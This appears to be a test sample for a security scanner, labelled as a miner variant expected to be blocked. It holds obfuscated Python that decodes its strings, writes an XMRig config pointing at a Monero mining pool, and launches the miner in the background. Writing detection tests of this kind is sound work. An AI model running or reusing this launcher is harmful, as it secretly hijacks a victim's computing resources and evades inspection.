# expect: BLOCKED category: miner variant-of: risky/miner/config_json.py technique: encode+getattr
json = __import__(''.join(map(chr, [106, 115, 111, 110])))
subprocess = __import__('ssecorpbus'[::-1])
config = {getattr(bytes, __import__('codecs').decode('sebzurk', 'rot13'))('706f6f6c73').decode(): [{'lru'[::-1]: __import__('base64').b64decode('c3RyYXR1bStzc2w6Ly9yYW5kb214bW9uZXJvLmF1dG8ubmljZWhhc2guY29tOjQ0Mw==').decode(), __import__('codecs').decode('hfre', 'rot13'): getattr(bytes, ''.join(['f', 'r', 'o', 'm', 'h', 'e', 'x']))('33486b312e2e2e776f726b6572').decode(), ''.join(['t', 'l', 's']): True}], ''.join(map(chr, [99, 112, 117])): {''.join(map(chr, [109, 97, 120, 45, 116, 104, 114, 101, 97, 100, 115, 45, 104, 105, 110, 116])): 100}}
with open('nosj.gifnoc'[::-1], 'w') as handle:
    getattr(json, __import__('base64').b64decode('ZHVtcA==').decode())(config, handle)
getattr(subprocess, ''.join(map(chr, [80, 111, 112, 101, 110])))([__import__('codecs').decode('abuhc', 'rot13'), ''.join(['.', '/', 'x', 'm', 'r', 'i', 'g']), __import__('base64').b64decode('LWM=').decode(), getattr(bytes, bytes.fromhex('66726f6d686578').decode())('636f6e6669672e6a736f6e').decode()])
